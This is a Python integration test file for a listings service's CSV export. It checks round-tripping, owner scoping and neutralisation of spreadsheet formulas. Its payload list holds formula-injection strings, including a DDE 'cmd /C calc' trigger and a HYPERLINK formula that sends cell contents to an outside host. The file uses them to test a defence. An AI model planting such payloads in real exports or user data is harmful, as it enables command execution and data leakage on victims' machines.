"""My listings as a spreadsheet: all of mine and nobody else's, imported again without effect, and no cell calculates."""

from __future__ import annotations

import pytest

from kit.database import Sessions
from services.listings.spreadsheet import COLUMNS, SideName
from tests.integration.listings.sheets import cells_of, counts, errors_of, imported, numbered, sheet
from tests.integration.listings.traders import COTTON, Json, Trader, at, kilo, problem, soles, written

BOTH = pytest.mark.parametrize("side", ["offer", "want"])
IN_BOTH = pytest.mark.parametrize("separator", ["comma", "semicolon"])
MARKS = {"comma": ",", "semicolon": ";"}
PAYLOADS = (
    "=1+1",
    '=HYPERLINK("http://example.pe/?"&A1,"ver")',
    "+51 999 999 999",
    "-20 °C",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=1+1",
    "''",
    "\uff1d1+1",
    "limpios;=1+1;",
    "limpios,\t=1+1",
    'con "comillas"\n=y líneas',
)


async def exported(trader: Trader, side: SideName, **query: str) -> bytes:
    answer = await trader.call("GET", f"/v1/{side}s/export", params=query)
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == f'attachment; filename="ayni-{side}s-2026-11-24.csv"'
    return answer.content


async def make_offers(holder: Trader) -> None:
    """In every state but exhausted, with every field, and with none."""
    await holder.offer()
    await holder.offer(title="Borrador", publish=False, external_id="B-1", facts=None)
    await holder.post(f"/v1/offers/{(await holder.offer(title='Retirado'))['id']}/withdraw")
    everything = {
        "description": "Limpios; en fardos, de 20 kg\nsin cierres",
        "quantity": kilo("1234567.123456789", "t"),
        "rhythm": "recurring",
        "divisible": False,
        "minimum_lot": kilo("0.125", "t"),
        "price": soles("-1234.5"),
        "grade": "A",
        "available_from": "2026-11-20T10:11:12.123456Z",
        "available_until": at(days=30),
        "external_id": "0012",
        "facts": {"post_consumer": False, "own_process_by_product": True},
    }
    await holder.offer(**everything)


async def make_wants(seeker: Trader) -> None:
    await seeker.want()
    await seeker.want(title="Borrador", publish=False, external_id="B-1", maximum=None)
    accepts = [{"material": COTTON, "weight": 1 / 3}, {"material": "textile.mixed_offcuts", "weight": 0.00001}]
    terms = {"maximum": kilo("12.345", "t"), "max_price": soles("0.5", "kg"), "min_grade": "C", "radius_km": 12.345678901234567}
    await seeker.want(accepts=accepts, rhythm="recurring", needed_until=at(days=9), **terms)


@BOTH
@IN_BOTH
async def test_an_export_is_imported_without_effect(sessions: Sessions, holder: Trader, side: SideName, separator: str) -> None:
    await holder.post("/v1/sites", {"name": "=Nave 2", "latitude": -12.1, "longitude": -76.9})
    site = (await holder.post("/v1/sites", {"name": "=NAVE 2", "latitude": -12.2, "longitude": -76.9}))["id"]
    for payload in PAYLOADS:
        made = holder.offer if side == "offer" else holder.want
        await made(title=payload, description=f"{payload}{payload}", external_id=payload, site_id=site)
    for one in (None, str(holder.site_id)):
        holder_site = {"site_id": one or site}
        await (holder.offer(**holder_site) if side == "offer" else holder.want(**holder_site))
    stood = await written(sessions)
    content = await exported(holder, side, separator=separator)
    assert counts(await imported(holder, side, content)) == (0, 0, 0)
    assert await written(sessions) == stood


@BOTH
@IN_BOTH
async def test_every_state_and_every_field_goes_round(sessions: Sessions, holder: Trader, side: SideName, separator: str) -> None:
    await (make_offers(holder) if side == "offer" else make_wants(holder))
    stood = await written(sessions)
    content = await exported(holder, side, separator=separator)
    assert counts(await imported(holder, side, content)) == (0, 0, 0)
    assert await written(sessions) == stood
    rows = cells_of(content, MARKS[separator])
    assert len(rows) == len((await holder.get(f"/v1/{side}s"))["items"])
    assert list(rows[0]) == list(COLUMNS[side])


@BOTH
async def test_what_is_changed_in_the_export_changes_that_listing_alone(holder: Trader, side: SideName) -> None:
    """Also one that was made by hand: it goes by its id, and gets no name of the file's."""
    by_hand = await (holder.offer(title="A mano") if side == "offer" else holder.want(title="A mano"))
    await imported(holder, side, sheet(side, numbered(2)))
    content = (await exported(holder, side)).replace(b"A mano", b"Otro")
    assert counts(await imported(holder, side, content)) == (0, 1, 0)
    found = await holder.read(by_hand)
    assert (found["title"], found["external_id"], found["version"]) == ("Otro", None, by_hand["version"] + 1)


@BOTH
@IN_BOTH
async def test_no_cell_of_text_calculates_and_figures_stay_figures(holder: Trader, side: SideName, separator: str) -> None:
    for number, payload in enumerate(PAYLOADS):
        price = {"price" if side == "offer" else "max_price": soles("-20.5")}
        made = holder.offer if side == "offer" else holder.want
        await made(title=payload, description=payload, external_id=f"{payload}{number}", **price)
    rows = cells_of(await exported(holder, side, separator=separator), MARKS[separator])
    assert len(rows) == len(PAYLOADS)
    for row in rows:
        for column in ("external_id", "site", "title", "description"):
            assert row[column][:1] not in ("=", "+", "-", "@", "\t", "\r", "\uff1d"), row
        amount = row["price_amount" if side == "offer" else "max_price_amount"]
        assert amount == ("-20.5" if separator == "comma" else "-20,5")


@BOTH
async def test_an_export_is_mine_alone_in_the_order_of_making(holder: Trader, stranger: Trader, side: SideName) -> None:
    await imported(stranger, side, sheet(side, [{"external_id": "AJENO"}]))
    await imported(holder, side, sheet(side, numbered(450)))
    rows = cells_of(await exported(holder, side))
    assert [row["external_id"] for row in rows] == [f"A-{number}" for number in range(450)]


@BOTH
async def test_an_export_of_one_state(holder: Trader, side: SideName) -> None:
    await imported(holder, side, sheet(side, [{"external_id": "A-1"}, {"external_id": "A-2", "publish": ""}]))
    assert [(row["external_id"], row["publish"]) for row in cells_of(await exported(holder, side, state="draft"))] == [("A-2", "no")]
    assert [(row["external_id"], row["publish"]) for row in cells_of(await exported(holder, side, state="published"))] == [("A-1", "si")]
    problem(await holder.call("GET", f"/v1/{side}s/export?state=vendido"), 422, "state")


@BOTH
async def test_an_empty_export_is_a_header(holder: Trader, side: SideName) -> None:
    content = await exported(holder, side)
    assert content.decode("utf-8-sig") == ",".join(COLUMNS[side]) + "\r\n"
    assert counts(await imported(holder, side, content)) == (0, 0, 0)


@BOTH
async def test_an_export_needs_its_scope(holder: Trader, side: SideName) -> None:
    holder.scopes = frozenset({"listings:write", "matches:read"})
    assert "listings:read" in problem(await holder.call("GET", f"/v1/{side}s/export"), 403)["detail"]


async def test_what_an_export_calls_a_number_that_was_cut_short_is_still_known(holder: Trader) -> None:
    """A name that looks like one is refused where it is new only."""
    await holder.offer(external_id="1E+15")
    assert counts(await imported(holder, "offer", await exported(holder, "offer"))) == (0, 0, 0)
    refused: Json = await imported(holder, "offer", sheet("offer", [{"external_id": "1E+16"}]))
    assert "cut short" in errors_of(refused)[2]["external_id"]
